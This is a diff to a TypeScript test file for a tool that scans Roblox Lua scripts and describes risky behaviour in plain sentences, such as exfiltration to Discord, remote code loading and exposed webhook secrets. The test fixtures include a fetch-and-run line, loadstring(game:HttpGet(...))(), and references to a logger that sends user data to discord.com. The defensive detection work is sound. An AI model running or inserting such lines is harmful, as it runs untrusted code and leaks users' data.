@@ -45,19 +45,15 @@ test('every capability is in one group', () => {
 
 describe('a sentence', () => {
   test.each<[CapabilityId, string, string]>([
-    ['net.exfiltration', LOGGER, 'Sends data about you to discord.com: your name and your user ID'],
+    ['net.exfiltration', LOGGER, 'Sends your name and user ID to discord.com'],
     ['net.webhook', LOGGER, 'Sends messages to a Discord webhook'],
     ['net.send', LOGGER, 'Sends data to discord.com'],
     ['net.get', 'game:HttpGet("https://a.com/x")', 'Downloads data from a.com'],
     ['net.get', 'game:HttpGet(address)', 'Downloads data from the internet'],
     ['net.socket', 'WebSocket.connect("wss://a.com/x")', 'Keeps a connection to a.com open'],
-    ['code.remote', 'loadstring(game:HttpGet("https://a.com/x"))()', 'Runs code that it downloads from a.com'],
+    ['code.remote', 'loadstring(game:HttpGet("https://a.com/x"))()', 'Runs downloaded code from a.com'],
     ['needs.executor', 'writefile("a", "b") setclipboard("c")', 'Needs an executor for writefile and setclipboard'],
-    [
-      'shape.secret',
-      `local url = "${WEBHOOK}${'a'.repeat(60)}"`,
-      'Contains a secret: a Discord webhook with its token',
-    ],
+    ['shape.secret', `local url = "${WEBHOOK}${'a'.repeat(60)}"`, 'Exposes a secret: a Discord webhook with its token'],
   ])('about %s says what is known', (id, code, text) => {
     expect(textOf(code, id)).toBe(text)
   })
@@ -87,23 +83,35 @@ test('a line has one mark with all that was found there', () => {
 })
 
 test('the gist names the most important findings and counts the others', () => {
-  expect(view(`${LOGGER}\nloadstring(game:HttpGet("https://a.com/x"))()`).gist).toEqual({
-    level: 'warning',
-    phrases: [
-      'Sends data about you',
-      'Sends messages to a chat or a data collector',
-      'Runs code that it downloads',
-      expect.stringMatching(/^\d more$/),
-    ],
-  })
+  expect(view(`${LOGGER}\nloadstring(game:HttpGet("https://a.com/x"))()`).gist).toEqual([
+    'Sends data about you',
+    'Sends messages to a webhook',
+    'Runs downloaded code',
+    expect.stringMatching(/^\d more$/),
+  ])
+})
+
+const withDeclared = (code: string, declared: BehaviorFinding['declared']) => {
+  const { capabilities } = cardOf(code)
+  return view(code, { capabilities: capabilities.map((finding) => ({ ...finding, declared })) })
+}
+
+test('a serious finding that was not declared is an alert with its line', () => {
+  const alert = { id: 'net.exfiltration', text: 'Sends your name and user ID to discord.com', line: 2 }
+  expect(withDeclared(LOGGER, 'undeclared').alert).toEqual(alert)
+  expect(withDeclared(LOGGER, 'not_asked').alert).toEqual(alert)
+  expect(withDeclared(LOGGER, 'declared').alert).toBeNull()
+  expect(withDeclared('request({ Url = "https://a.com", Method = "POST", Body = "x" })', 'undeclared').alert).toBeNull()
 })
 
 test('without findings, the gist says why', () => {
-  const gistOf = (changes: Partial<Behavior>) => view('print(1)', changes).gist.phrases
-  expect(gistOf({})).toEqual(['We found none of the 27 things we look for'])
-  expect(gistOf({ status: 'pending' })).toEqual(["We're still checking it"])
-  expect(gistOf({ status: 'failed' })).toEqual(["We couldn't check it"])
+  const gistOf = (changes: Partial<Behavior>) => view('print(1)', changes).gist
+  expect(gistOf({})).toEqual(['nothing found'])
+  expect(gistOf({ status: 'pending' })).toEqual(['running…'])
+  expect(gistOf({ status: 'failed' })).toEqual(['failed'])
   expect(gistOf({ compiles: false })).toEqual(["Doesn't compile"])
+  const compile_error = { line: 23, column: null, message: 'x' }
+  expect(gistOf({ compiles: false, compile_error })).toEqual(["Doesn't compile (line 23)"])
 })
 
 test.each<[string, Partial<Behavior>]>([
@@ -116,7 +124,7 @@ test.each<[string, Partial<Behavior>]>([
 ])('nobody says that nothing was found in a script that %s', (_, changes) => {
   const { isComplete, gist } = view('print(1)', changes)
   expect(isComplete).toBe(false)
-  expect(gist.phrases.join(' ')).not.toContain('found none')
+  expect(gist.join(' ')).not.toContain('nothing found')
 })
 
 test('what was not looked into comes first if it is most of the script', () => {
@@ -162,6 +170,6 @@ test('only the change of the current version is shown', () => {
     { ...none, number: 2, version: '1.1.0', starts: ['fs.write' as const] },
     { ...none, number: 1, version: '1.0.0', starts: ['fs.read' as const] },
   ]
-  expect(viewBehavior(cardOf(''), changes).changes).toEqual(['starts to write files'])
+  expect(viewBehavior(cardOf(''), changes).changes).toEqual(['starts to save files'])
   expect(viewBehavior(cardOf('', { version: '2.0.0' }), changes).changes).toEqual([])
 })
